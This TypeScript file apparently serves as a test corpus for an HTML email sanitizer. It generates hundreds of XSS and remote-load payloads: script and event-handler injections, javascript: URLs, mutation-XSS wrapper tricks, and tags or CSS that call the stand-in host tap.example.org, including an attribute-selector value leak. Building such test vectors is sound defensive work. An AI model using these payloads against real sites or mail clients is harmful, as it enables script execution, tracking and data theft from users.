/** Attacks by HTML in a letter, made by class. `HIT` stands for what runs, `URL` for what would be asked for. */
const HIT = 'window.top.hit=1;window.hit=1'
const URL = 'http://tap.example.org/'

const EVENTS =
  'load error click focus mouseover toggle begin animationstart transitionend pageshow beforeprint'.split(' ')
const TAGS =
  'img svg body video audio iframe object embed input details marquee select textarea style link script math form a table'.split(
    ' ',
  )
const WRAPS: ((inner: string) => string)[] = [
  (x) => x,
  (x) => `<svg>${x}</svg>`,
  (x) => `<math><mtext>${x}</mtext></math>`,
  (x) => `<noscript><p title="</noscript>${x}">`,
  (x) => `<xmp><p title="</xmp>${x}">`,
  (x) => `<textarea><p title="</textarea>${x}">`,
  (x) => `<title><p title="</title>${x}">`,
  (x) => `<template>${x}</template>${x}`,
  (x) => `<form><math><mtext></form><form><mglyph><style></math>${x}`,
  (x) => `<svg></p><style><a id="</style>${x}">`,
  (x) => `<!--><!-->${x}`,
  (x) => `<![CDATA[>${x}]]>`,
  (x) => `<select><option>${x}`,
  (x) => `<table><td>${x}<tr>${x}`,
]

const loads = [
  `<img src="${URL}a">`,
  `<img srcset="${URL}b 1x">`,
  `<picture><source srcset="${URL}c"><img src=x></picture>`,
  `<link rel=stylesheet href="${URL}d">`,
  `<link rel=prefetch href="${URL}e">`,
  `<link rel=preload as=image href="${URL}f">`,
  `<link rel=dns-prefetch href="//tap.example.org">`,
  `<link rel=preconnect href="${URL}">`,
  `<link rel=icon href="${URL}g">`,
  `<meta http-equiv=refresh content="0;url=${URL}h">`,
  `<base href="${URL}"><img src=i>`,
  `<body background="${URL}j">`,
  `<table background="${URL}k"><td background="${URL}l">x</table>`,
  `<div style="background:url(${URL}m)">x</div>`,
  `<style>@import "${URL}n";</style>`,
  `<style>p{background:image-set("${URL}o" 1x)}</style><p>x`,
  `<style>@font-face{font-family:x;src:url(${URL}p)}p{font-family:x}</style><p>x`,
  `<style>input[value^=a]{background:url(${URL}q)}</style><input value=abc>`,
  `<video poster="${URL}r" src="${URL}s" autoplay></video>`,
  `<audio src="${URL}t" autoplay></audio>`,
  `<track src="${URL}u">`,
  `<iframe src="${URL}v"></iframe>`,
  `<frameset><frame src="${URL}w"></frameset>`,
  `<object data="${URL}x"></object>`,
  `<embed src="${URL}y">`,
  `<input type=image src="${URL}z">`,
  `<svg><image href="${URL}A"/></svg>`,
  `<svg><image xlink:href="${URL}B"/></svg>`,
  `<svg><use href="${URL}C#x"/></svg>`,
  `<svg><feImage href="${URL}D"/></svg>`,
  `<svg><style>*{background:url(${URL}E)}</style></svg>`,
  `<math><mi xlink:href="${URL}F">x</mi></math>`,
  `<form action="${URL}G"><input name=a><button autofocus onfocus="this.form.submit()">x</button></form>`,
  `<a ping="${URL}H" href="${URL}I">x</a>`,
  `<img src=x onerror="fetch('${URL}J')">`,
  `<applet code="${URL}K">`,
  `<isindex action="${URL}L">`,
  `<html manifest="${URL}M">`,
  `<img dynsrc="${URL}N" lowsrc="${URL}O">`,
  `<p style="list-style:url(${URL}P);content:url(${URL}Q)">x`,
  `<script src="${URL}R"></script>`,
  `<script type=module>import "${URL}S"</script>`,
]

const runs = [
  `<script>${HIT}</script>`,
  `<ScRiPt >${HIT}</sCrIpT >`,
  `<script/x>${HIT}</script>`,
  `<<script>${HIT}//<</script>`,
  `<svg><script>${HIT}</script></svg>`,
  `<svg><animate onbegin="${HIT}" attributeName=x dur=1s>`,
  `<svg><set onbegin="${HIT}" attributeName=x>`,
  `<svg><a><animate attributeName=href values="javascript:${HIT}"/><text y=9>x</text></a></svg>`,
  `<iframe srcdoc="<script>parent.hit=1</script>"></iframe>`,
  `<iframe src="javascript:parent.hit=1"></iframe>`,
  `<object data="data:text/html,<script>parent.hit=1</script>"></object>`,
  `<embed src="javascript:${HIT}">`,
  `<meta http-equiv=refresh content="0;url=javascript:${HIT}">`,
  `<img src=x onerror=&#119;indow.hit=1>`,
  `<img src="x\` \`<script>${HIT}</script>"\` \`>`,
  `<details open ontoggle="${HIT}">x</details>`,
  `<style onload="${HIT}"></style>`,
  `<input autofocus onfocus="${HIT}">`,
  `<a href="javascript:${HIT}" id=x autofocus tabindex=1 onfocus="${HIT}">x</a>`,
  `<math href="javascript:${HIT}">x</math>`,
  `<p title="--><script>${HIT}</script>">x`,
  `+ADw-script+AD4-${HIT}+ADw-/script+AD4-`,
  `<div><!-- </div><script>${HIT}</script> -->`,
  `<noembed><script>${HIT}</script></noembed><noembed></noembed><img src=x onerror="${HIT}">`,
]

/** All of them: every class in every wrapping, and every event on every element. */
export const VECTORS: readonly string[] = [
  ...WRAPS.flatMap((wrap) => [...loads, ...runs].map(wrap)),
  ...TAGS.flatMap((tag) =>
    EVENTS.map((event) => `<${tag} src=x href=x autofocus tabindex=1 on${event}="${HIT}">x</${tag}>`),
  ),
]
